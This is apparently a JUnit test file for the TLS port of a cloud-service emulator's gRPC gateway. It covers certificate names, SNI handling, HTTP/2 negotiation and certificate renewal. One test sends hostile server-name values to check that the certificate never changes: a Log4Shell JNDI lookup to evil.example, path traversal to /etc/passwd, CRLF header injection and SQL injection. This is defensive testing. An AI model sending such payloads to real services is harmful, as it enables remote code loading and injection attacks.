package io.github.datasphere.emulator.gateway.tls;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.datasphere.emulator.gateway.GrpcPeers;
import io.github.datasphere.emulator.gateway.MovableClock;
import io.github.datasphere.emulator.gateway.Peer;
import io.github.datasphere.emulator.gateway.TlsClient;
import io.grpc.Server;
import io.grpc.TlsChannelCredentials;
import io.grpc.health.v1.HealthCheckRequest;
import io.grpc.health.v1.HealthCheckResponse;
import io.grpc.health.v1.HealthGrpc;
import io.grpc.netty.shaded.io.grpc.netty.NettyChannelBuilder;
import java.nio.file.Path;
import java.security.cert.X509Certificate;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import javax.net.ssl.SNIHostName;
import javax.net.ssl.SNIServerName;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLHandshakeException;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.StandardConstants;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class TlsPortTest {
  private final MovableClock clock = new MovableClock(Clock.systemUTC().instant());
  private Server server;
  private CertificateAuthority authority;

  @TempDir
  Path folder;

  @BeforeEach
  void serve() throws Exception {
    authority = CertificateAuthority.open(folder, clock);
    server = GrpcPeers.serve(TlsPort.credentials(authority, Set.of("build.example", "10.1.2.3")));
  }

  @AfterEach
  void stop() throws Exception {
    server.shutdownNow().awaitTermination();
  }

  static Stream<String> everyName() {
    return ServerNames.certified(Set.of("build.example", "10.1.2.3")).stream();
  }

  @ParameterizedTest
  @MethodSource("everyName")
  void certificateVerifiesForEveryNameOfTheService(String name) throws Exception {
    try (var socket = handshake(name)) {
      assertThat(socket.getSession().isValid()).isTrue();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "yandex.net",
        "cloud.yandex.net",
        "x.api.cloud.yandex.net",
        "datasphere.api.cloud.yandex.net.evil.example",
        "xdatasphere.api.cloud.yandex.net",
        "storage.yandexcloud.net",
        "console.cloud.yandex.ru",
        "localhost.evil.example",
        "127.0.0.2",
        "0.0.0.0",
        "10.1.2.4",
        "evil.example",
        "x.build.example",
        "example"
      })
  void certificateDoesNotVerifyForAnotherName(String name) {
    assertThatThrownBy(() -> handshake(name)).isInstanceOf(SSLHandshakeException.class);
  }

  /** No name that a client asks for is put into a certificate. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "evil.example",
        "*",
        "*.yandex.net",
        "..",
        "../../etc/passwd",
        "a\0.localhost",
        "localhost\r\nX: y",
        "CN=evil, O=evil",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/x}",
        "\u00ff\u00fe"
      })
  void whateverNameIsAskedForTheCertificateIsTheSame(String name) throws Exception {
    var before = served();
    try (var socket = connect("localhost")) {
      var parameters = socket.getSSLParameters();
      parameters.setServerNames(List.of(new OddName(name)));
      socket.setSSLParameters(parameters);
      socket.startHandshake();
      assertThat(socket.getSession().getPeerCertificates()[0]).isEqualTo(before);
    } catch (SSLException e) {
      // Refused by the TLS library, which is as good
    }
    assertThat(served()).isEqualTo(before);
  }

  private static final class OddName extends SNIServerName {
    OddName(String name) {
      super(StandardConstants.SNI_HOST_NAME, name.getBytes(UTF_8));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"TLSv1.2", "TLSv1.3"})
  void h2IsNegotiated(String version) throws Exception {
    try (var socket = connect("localhost")) {
      socket.setEnabledProtocols(new String[] {version});
      socket.startHandshake();
      assertThat(socket.getApplicationProtocol()).isEqualTo("h2");
      assertThat(socket.getSession().getProtocol()).isEqualTo(version);
    }
  }

  @Test
  void clientThatSendsNoServerNameIsServed() throws Exception {
    try (var socket = connect("127.0.0.1")) {
      socket.startHandshake();
      assertThat(socket.getApplicationProtocol()).isEqualTo("h2");
    }
  }

  @Test
  void unknownServerNameGetsTheSameCertificate() throws Exception {
    try (var socket = connect("localhost")) {
      var parameters = socket.getSSLParameters();
      parameters.setServerNames(List.of(new SNIHostName("unknown.example")));
      socket.setSSLParameters(parameters);
      socket.startHandshake();
      assertThat(socket.getApplicationProtocol()).isEqualTo("h2");
    }
  }

  @Test
  void certificateIsReplacedWhileServing() throws Exception {
    var before = served();
    var later = clock.instant().plus(Authority.SERVER_LIFE).minus(Duration.ofDays(20));
    clock.moveTo(later);
    assertThat(served().getNotAfter().toInstant()).isAfter(later.plus(Duration.ofDays(300)));
    assertThat(served()).isNotEqualTo(before);
  }

  @Test
  void certificateThatCannotBeRenewedIsServedOn() throws Exception {
    var before = served();
    clock.moveTo(clock.instant().plus(Authority.SERVER_LIFE).minus(Duration.ofDays(20)));
    for (var file : folder.toFile().listFiles()) {
      assertThat(file.delete()).isTrue();
    }
    assertThat(folder.toFile().delete()).isTrue();
    assertThat(served()).isEqualTo(before);
  }

  @ParameterizedTest
  @ValueSource(strings = {"GET / HTTP/1.1\r\nHost: h\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"})
  void plainTextIsToldWhichPortThisIs(String text) throws Exception {
    try (var client = Peer.connect(Peer.loopback(server.getPort())).send(text)) {
      assertThat(client.readToEnd()).startsWith("HTTP/1.1 400 This is the emulator's TLS port");
    }
    handshake("localhost").close();
  }

  @Test
  void grpcClientIsServed() throws Exception {
    var trust = TlsChannelCredentials.newBuilder()
        .trustManager(authority.certificateFile().toFile())
        .build();
    var channel =
        NettyChannelBuilder.forAddress("127.0.0.1", server.getPort(), trust).build();
    try {
      var health = HealthGrpc.newBlockingStub(channel).withDeadlineAfter(60, TimeUnit.SECONDS);
      assertThat(health.check(HealthCheckRequest.getDefaultInstance()).getStatus())
          .isEqualTo(HealthCheckResponse.ServingStatus.SERVING);
    } finally {
      channel.shutdownNow();
    }
  }

  private X509Certificate served() throws Exception {
    try (var socket = TlsClient.blind().connect(server.getPort(), "localhost")) {
      socket.startHandshake();
      return (X509Certificate) socket.getSession().getPeerCertificates()[0];
    }
  }

  private SSLSocket handshake(String name) throws Exception {
    var socket = connect(name);
    socket.startHandshake();
    return socket;
  }

  private SSLSocket connect(String name) throws Exception {
    return TlsClient.trusting(authority.certificateFile()).connect(server.getPort(), name);
  }
}
